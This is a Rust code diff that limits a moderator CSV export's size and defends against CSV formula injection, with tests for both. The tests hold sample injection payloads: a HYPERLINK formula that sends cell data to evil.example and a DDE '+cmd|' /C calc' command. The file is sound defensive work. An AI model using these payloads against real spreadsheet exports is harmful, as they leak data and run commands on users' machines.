@@ -278,10 +278,17 @@ pub fn passage_link(url: &str, sentence: &str) -> Option<String> {
     Some(base.to_string())
 }
 
-/// Gaps as CSV, one row each, with a header: what a moderator opens in a spreadsheet. Reasons
-/// are joined with " | "; times are UTC in RFC 3339.
-pub fn gaps_csv(gaps: &[crate::store::Gap]) -> Vec<u8> {
-    let mut out = csv::Writer::from_writer(Vec::new());
+/// The largest CSV file made: under Discord's 10 MiB attachment limit, with room for the
+/// message around it.
+pub const CSV_MAX_BYTES: usize = 8 * 1024 * 1024;
+
+/// The most characters of one CSV cell; longer text is cut with "…".
+const CSV_CELL_MAX: usize = 2_000;
+
+/// Gaps as CSV, with a header: what a moderator opens in a spreadsheet. Reasons are joined with
+/// " | "; times are UTC in RFC 3339. Rows stop before the file would pass [`CSV_MAX_BYTES`]:
+/// the bytes and how many gaps they hold.
+pub fn gaps_csv(gaps: &[crate::store::Gap]) -> (Vec<u8>, usize) {
     let header = [
         "question",
         "count",
@@ -291,10 +298,10 @@ pub fn gaps_csv(gaps: &[crate::store::Gap]) -> Vec<u8> {
         "reasons",
         "last_asked",
     ];
-    // Writing to a Vec cannot fail.
-    let _ = out.write_record(header);
+    let mut out = csv_row(header.map(String::from));
+    let mut rows = 0;
     for gap in gaps {
-        let _ = out.write_record([
+        let row = csv_row([
             gap.question.clone(),
             gap.count.to_string(),
             gap.abstained.to_string(),
@@ -306,7 +313,36 @@ pub fn gaps_csv(gaps: &[crate::store::Gap]) -> Vec<u8> {
                 .and_then(|t| t.to_rfc3339())
                 .unwrap_or_default(),
         ]);
+        if out.len() + row.len() > CSV_MAX_BYTES {
+            break;
+        }
+        out.extend(row);
+        rows += 1;
     }
+    (out, rows)
+}
+
+/// One CSV record of user text made safe for a spreadsheet: a cell that begins with `=`, `+`,
+/// `-` or `@` is read as a formula, so it starts with `'` instead (OWASP's rule for CSV
+/// injection; tabs and carriage returns, its other two, become spaces with every control
+/// character); long cells are cut.
+fn csv_row<const N: usize>(cells: [String; N]) -> Vec<u8> {
+    let mut out = csv::Writer::from_writer(Vec::new());
+    let cells = cells.map(|cell| {
+        let mut cell: String = cell
+            .chars()
+            .map(|c| if c.is_control() { ' ' } else { c })
+            .collect();
+        if cell.chars().count() > CSV_CELL_MAX {
+            cell = cell.chars().take(CSV_CELL_MAX - 1).collect::<String>() + "…";
+        }
+        if cell.starts_with(['=', '+', '-', '@']) {
+            cell.insert(0, '\'');
+        }
+        cell
+    });
+    // Writing to a Vec cannot fail.
+    let _ = out.write_record(&cells);
     out.into_inner().unwrap_or_default()
 }
 
@@ -320,6 +356,70 @@ mod tests {
     }
 
     use super::*;
+
+    fn gap(question: &str, reasons: &[&str]) -> crate::store::Gap {
+        crate::store::Gap {
+            question: question.into(),
+            count: 1,
+            abstained: 0,
+            unsure: 0,
+            down_votes: u32::try_from(reasons.len()).unwrap_or(0),
+            reasons: reasons.iter().map(|r| r.to_string()).collect(),
+            last_asked: 1_795_841_451,
+        }
+    }
+
+    #[test]
+    fn csv_cells_a_spreadsheet_would_run_are_neutralised() {
+        let gaps = [
+            gap(
+                "=HYPERLINK(\"https://evil.example/?leak=\"&A1, \"Click\")",
+                &["+cmd|' /C calc'!A0", "fine"],
+            ),
+            gap("@SUM(1+1)*cmd", &["-2+3"]),
+            gap("\t=1+1\r\nnext", &[]),
+            gap("When did Russia lift its arms embargo?", &[]),
+        ];
+        let (bytes, rows) = gaps_csv(&gaps);
+        assert_eq!(rows, 4);
+        let mut reader = csv::Reader::from_reader(bytes.as_slice());
+        let records: Vec<csv::StringRecord> = reader.records().map(|r| r.unwrap()).collect();
+        assert_eq!(
+            &records[0][0],
+            "'=HYPERLINK(\"https://evil.example/?leak=\"&A1, \"Click\")"
+        );
+        assert_eq!(&records[0][5], "'+cmd|' /C calc'!A0 | fine");
+        assert_eq!(
+            (&records[1][0], &records[1][5]),
+            ("'@SUM(1+1)*cmd", "'-2+3")
+        );
+        assert_eq!(&records[2][0], " =1+1  next");
+        assert_eq!(&records[3][0], "When did Russia lift its arms embargo?");
+        for record in &records {
+            for cell in record {
+                assert!(
+                    !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                    "{cell}"
+                );
+            }
+        }
+    }
+
+    #[test]
+    fn the_csv_stops_under_discords_attachment_limit() {
+        let reason = "x".repeat(190);
+        let reasons: Vec<&str> = std::iter::repeat_n(reason.as_str(), 20).collect();
+        let gaps: Vec<crate::store::Gap> = (0..5_000)
+            .map(|i| gap(&format!("question {i}"), &reasons))
+            .collect();
+        let (bytes, rows) = gaps_csv(&gaps);
+        assert!(bytes.len() <= CSV_MAX_BYTES && CSV_MAX_BYTES < 10 * 1024 * 1024);
+        assert!(rows < gaps.len() && rows > 0, "{rows}");
+        let mut reader = csv::Reader::from_reader(bytes.as_slice());
+        let first = reader.records().next().unwrap().unwrap();
+        assert_eq!(first[5].chars().count(), CSV_CELL_MAX, "a long cell is cut");
+        assert!(first[5].ends_with('…'));
+    }
 
     #[test]
     fn long_text_is_cut_at_a_sentence_with_an_ellipsis() {
